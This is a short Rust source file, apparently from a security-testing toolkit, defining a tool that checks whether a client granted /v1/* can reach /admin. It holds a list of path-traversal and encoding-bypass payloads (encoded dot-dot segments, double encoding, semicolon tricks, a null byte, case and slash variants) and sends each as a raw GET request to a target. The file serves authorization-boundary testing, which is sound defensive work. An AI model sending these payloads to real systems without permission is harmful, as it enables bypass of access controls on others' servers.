//! Is granted `/v1/*` and asks for `/admin`. The wall: a path two readers could read differently is in no limited grant.

use crate::wire::{Raw, Target, each};
use vespiary_sdk::{Result, tool};

/// Every way out of a directory.
#[tool]
pub fn path_escape(target: Target) -> Result<String> {
    let authority = format!("{}:{}", target.host, target.port);
    let paths = [
        "/admin", "/v1/../admin", "/v1/..%2fadmin", "/v1/%2e%2e/admin", "/v1/%2e%2e%2fadmin", "/v1/..%5cadmin", "/v1/..;/admin",
        "/v1/%252e%252e/admin", "/v1//../admin", "/v1/x/../../admin", "/v1/.%00./admin", "/V1/admin", "//v1/admin", "/v1",
    ];
    each(paths.iter().map(|path| (*path, Raw::get(&authority, path).send())))
}
